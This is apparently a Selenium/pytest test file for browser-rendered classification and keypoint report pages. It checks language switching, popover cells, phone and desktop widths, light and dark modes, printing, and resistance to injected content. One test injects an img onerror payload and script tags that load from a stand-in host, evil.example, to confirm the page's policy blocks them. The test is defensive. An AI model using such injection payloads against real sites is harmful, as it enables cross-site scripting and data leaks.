"""The report and the comparison in a real browser: languages, cells that open, width, paper, nothing from outside."""

import base64
from contextlib import contextmanager

import points_material as of_points
import pytest
import report_material as material
from headless import chromium
from loopback_proxy import proxy
from made_languages import write
from report_material import HOSTILE
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait
from troubled_dataset import troubled

from byod.report import languages
from byod.report.check_page import write_check
from byod.tasks import TASKS
from byod.tasks.classify.report.compare_page import page as compare_page
from byod.tasks.classify.report.page import render
from byod.tasks.keypoints.report.compare_page import page as compare_points_page
from byod.tasks.keypoints.report.page import render as render_keypoints

pytestmark = pytest.mark.slow

LONG = "Donaudampfschifffahrtsgesellschaftskapitänsmützenbrokkoli" * 3
GERMAN = (
    "[...document.querySelectorAll('body :is(span,text)[lang=de]')].filter(e => e.checkVisibility()).length"
)
ENGLISH = GERMAN.replace("lang=de", "lang=en")


@pytest.fixture(scope="module")
def asked():
    """A proxy, as (port, what it was asked for)."""
    with proxy() as found:
        yield found


@contextmanager
def opened(port, language="en-GB"):
    """A browser that speaks a language, moves nothing, and asks a proxy for everything."""
    with chromium(language=language, proxy=port) as made:
        still = [{"name": "prefers-reduced-motion", "value": "reduce"}]
        made.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": still})
        yield made


@pytest.fixture(scope="module")
def browser(asked):
    with opened(asked[0]) as made:
        yield made


@pytest.fixture(scope="module")
def pages(tmp_path_factory, drawn_snapshot):
    """The reports and the comparisons, written down; plain, hostile and long."""
    folder = tmp_path_factory.mktemp("pages")
    texts = {
        "report": render(material.contents(folder / "a")),
        "compare": compare_page(material.comparison()),
        "hostile": render(material.contents(folder / "b", HOSTILE, HOSTILE + "2", HOSTILE)),
        "hostile-compare": compare_page(material.comparison(HOSTILE)),
        "long": render(material.contents(folder / "c", LONG, "W" * 150, "x" * 300)),
        "long-compare": compare_page(material.comparison(LONG)),
        "points": render_keypoints(of_points.contents(folder / "d")),
        "points-compare": compare_points_page(of_points.comparison()),
        "hostile-points": render_keypoints(of_points.contents(folder / "e", HOSTILE)),
        "hostile-points-compare": compare_points_page(of_points.comparison(HOSTILE)),
        "long-points": render_keypoints(of_points.contents(folder / "f", LONG)),
        "long-points-compare": compare_points_page(of_points.comparison(LONG)),
    }
    for name, text in texts.items():
        (folder / f"{name}.html").write_text(text, encoding="utf-8")
    texts["check"] = write_check(
        troubled(drawn_snapshot, folder / "set"), TASKS["classify"].pages, folder / "check.html"
    )
    return {name: folder / f"{name}.html" for name in texts}


def wide(browser, width):
    size = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": width < 600}
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)


@pytest.mark.parametrize("name", ["report", "compare", "points", "points-compare", "check"])
def test_the_reader_chooses_the_language(browser, pages, name):
    """An English browser shows English alone; Deutsch shows German alone, and says so to screen readers; and back."""
    wide(browser, 1200)
    browser.get(pages[name].as_uri())
    for choice, language in ((None, "en"), ("de", "de"), ("en", "en")):
        if choice:
            browser.find_element(By.CSS_SELECTOR, f"label[for=language-{choice}]").click()
        shown = browser.execute_script(f"return [{ENGLISH}, {GERMAN}, document.documentElement.lang]")
        assert (shown[0] > 10, shown[1] > 10, shown[2]) == (language == "en", language == "de", language)
        other = 1 if language == "en" else 0
        assert shown[other] == 0


def test_a_german_browser_shows_german(asked, pages):
    """Where the browser asks for German, the page is German from the start."""
    with opened(asked[0], "de-AT") as german:
        german.get(pages["report"].as_uri())
        assert german.execute_script("return navigator.language").startswith("de")
        assert german.execute_script(f"return {ENGLISH}") == 0
        assert "Hat sich das Nachtrainieren gelohnt?" in german.find_element(By.TAG_NAME, "main").text


def test_without_a_script_it_is_english_and_still_switches(browser, pages):
    """With scripts off the page reads in English, and the choice of the language works all the same."""
    wide(browser, 1200)
    browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    try:
        browser.get(pages["report"].as_uri())
        body = browser.find_element(By.TAG_NAME, "main")
        assert "Was fine-tuning worth it?" in body.text
        assert "Hat sich" not in body.text
        browser.find_element(By.CSS_SELECTOR, "label[for=language-de]").click()
        assert "Hat sich das Nachtrainieren gelohnt?" in body.text
        assert "Was fine-tuning" not in body.text
    finally:
        browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})


def test_a_cell_opens_and_closes(browser, pages):
    """A click on a count shows its pictures and no others; Escape, and the cross, close them again."""
    wide(browser, 1200)
    browser.get(pages["report"].as_uri())
    button = browser.find_element(By.CSS_SELECTOR, "button[popovertarget=cell-0-1]")
    behind = browser.find_element(By.ID, "cell-0-1")
    assert not behind.is_displayed()
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", button)
    for close in (
        lambda: ActionChains(browser).send_keys(Keys.ESCAPE).perform(),
        lambda: behind.find_element(By.TAG_NAME, "button").click(),
    ):
        button.click()
        assert behind.is_displayed()
        assert (
            len([each for each in browser.find_elements(By.CSS_SELECTOR, "[popover]") if each.is_displayed()])
            == 1
        )
        photos = behind.find_elements(By.CSS_SELECTOR, "svg.photo")
        assert len(photos) == 2
        assert photos[0].size["width"] > 80
        close()
        WebDriverWait(browser, 10).until(lambda _: not behind.is_displayed())


def test_photos_are_painted(browser, pages):
    """A photo that is kept once and used elsewhere really shows its colours."""
    from io import BytesIO

    import numpy as np
    from PIL import Image

    wide(browser, 1200)
    browser.get(pages["report"].as_uri())
    photo = browser.find_element(By.CSS_SELECTOR, "#mistakes svg.photo")
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", photo)
    pixels = np.asarray(Image.open(BytesIO(photo.screenshot_as_png)).convert("RGB")).astype(float)
    assert pixels.std(axis=(0, 1)).min() > 10


@pytest.mark.parametrize(
    "name",
    [
        *("report", "compare", "long", "long-compare"),
        *("points", "points-compare", "long-points", "long-points-compare"),
    ],
)
@pytest.mark.parametrize("width", [360, 1200])
def test_nothing_sticks_out(browser, pages, name, width):
    """Both pages fit a phone and a desktop in both languages, long names and all, without scrolling sideways."""
    wide(browser, width)
    browser.get(pages[name].as_uri())
    for choice in ("language-de", "language-en"):
        browser.execute_script(f"document.getElementById('{choice}').click()")
        assert browser.execute_script("return document.documentElement.scrollWidth") <= width


def test_light_and_dark_differ(browser, pages):
    """The page follows the system's choice of light or dark, and its words stay readable on it."""
    browser.get(pages["report"].as_uri())
    looks = []
    for scheme in ("light", "dark"):
        browser.execute_cdp_cmd(
            "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
        )
        looks.append(
            browser.execute_script(
                "return ['backgroundColor', 'color'].map(key => getComputedStyle(document.body)[key]"
                ".match(/[0-9]+/g).slice(0, 3).reduce((a, b) => a + Number(b), 0) / 3)"
            )
        )
    (light, ink), (dark, chalk) = looks
    assert light - ink > 120
    assert chalk - dark > 120


def test_it_prints(browser, pages):
    """On paper there are no buttons to press and no hidden cells; all sections are there, and the PDF has pages."""
    browser.get(pages["report"].as_uri())
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    try:
        for gone in (".languages", ".jump", "[popover]", ".screen"):
            elements = browser.find_elements(By.CSS_SELECTOR, gone)
            assert elements
            assert not any(each.is_displayed() for each in elements)
        sections = browser.find_elements(By.CSS_SELECTOR, "main>section")
        assert len(sections) >= 10
        assert all(each.is_displayed() for each in sections)
        pdf = base64.b64decode(browser.execute_cdp_cmd("Page.printToPDF", {})["data"])
        assert pdf.startswith(b"%PDF")
        assert pdf.count(b"/Type /Page\n") + pdf.count(b"/Type /Page ") >= 2
    finally:
        browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})


@pytest.mark.parametrize("name", ["hostile", "hostile-compare", "hostile-points", "hostile-points-compare"])
def test_hostile_text_does_nothing(browser, pages, asked, name):
    """What strangers wrote runs no script and asks nobody for anything, even where it became an element after all."""
    browser.get(pages[name].as_uri())
    assert browser.title != "pwned"
    assert len(browser.find_elements(By.TAG_NAME, "script")) == 1
    browser.execute_script(
        "document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.example/x onerror=document.title=1>');"
        "const s = document.createElement('script'); s.src = 'http://evil.example/y'; document.body.append(s);"
        "const t = document.createElement('script'); t.text = 'document.title = \"pwned\"'; document.body.append(t)"
    )
    browser.execute_async_script("setTimeout(arguments[0], 500)")
    assert browser.title not in ("pwned", "1")
    assert not [address for address in asked[1] if "evil" in address]


def test_the_proxy_would_notice(browser, asked, tmp_path):
    """The check before is worth something: a page without a policy is seen asking."""
    page = tmp_path / "leaky.html"
    page.write_text("<img src=http://leaky.example/x>")
    browser.get(page.as_uri())
    WebDriverWait(browser, 10).until(lambda _: any("leaky.example" in address for address in asked[1]))


def test_a_dozen_languages_fit_a_phone(asked, tmp_path, monkeypatch):
    """With more languages than fit beside the title the switch takes lines of its own; the browser's is chosen."""
    for code in ("aa", "ab", "af", "ak", "am", "an", "ar", "as", "av", "pt_BR"):
        name = "The language that is called " + code
        text = f'msgctxt "the language\'s own name"\nmsgid "English"\nmsgstr "{name}"\n'
        write(tmp_path / "locale", code, f'{text}\nmsgid "Confusions"\nmsgstr "Said in {code}"\n')
    monkeypatch.setattr(languages, "LOCALE", tmp_path / "locale")
    page = tmp_path / "report.html"
    page.write_text(render(material.contents(tmp_path / "a")), encoding="utf-8")
    with opened(asked[0], "pt-BR") as made:
        wide(made, 390)
        made.get(page.as_uri())
        assert made.execute_script("return document.documentElement.lang") == "pt-BR"
        assert "Said in pt_BR" in made.find_element(By.TAG_NAME, "nav").text
        assert made.execute_script("return document.documentElement.scrollWidth") <= 390
        made.find_element(By.CSS_SELECTOR, "label[for=language-av]").click()
        assert "Said in av" in made.find_element(By.TAG_NAME, "nav").text
